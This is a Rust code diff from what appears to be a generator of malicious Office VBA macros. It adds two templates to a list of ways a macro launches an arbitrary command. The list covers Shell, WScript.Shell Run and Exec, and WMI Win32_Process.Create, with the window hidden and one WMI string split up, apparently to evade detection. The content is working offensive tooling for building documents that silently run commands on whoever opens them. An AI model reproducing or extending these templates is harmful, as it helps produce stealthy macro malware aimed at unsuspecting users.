@@ -9,13 +9,16 @@ use crate::forge::ovba::Kind;
 use anyhow::Result;
 
 /// Calls that start a command, `{cmd}` its variable. The window is hidden by each that can.
-const STARTS: [&str; 6] = [
+const STARTS: [&str; 8] = [
     "Shell {cmd}, vbHide",
     "{x} = Shell({cmd}, 0)",
     "CreateObject(\"WScript.Shell\").Run {cmd}, 0, False",
     "Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, Null, {y}",
     "Set {y} = GetObject(\"winmgmts:Win32_ProcessStartup\")\n{y}.ShowWindow = 0\n\
      Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, {y}, {z}",
+    "Set {x} = CreateObject(\"WScript.Shell\").Exec({cmd})",
+    "Set {x} = CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\")\n\
+     {y} = {x}.Get(\"Win32_Process\").Create({cmd}, Null, Null, {z})",
     "GetObject(\"winm\" & \"gmts:\" & \"Win32\" & \"_Process\").Create {cmd}, Null, Null, {x}",
 ];
 
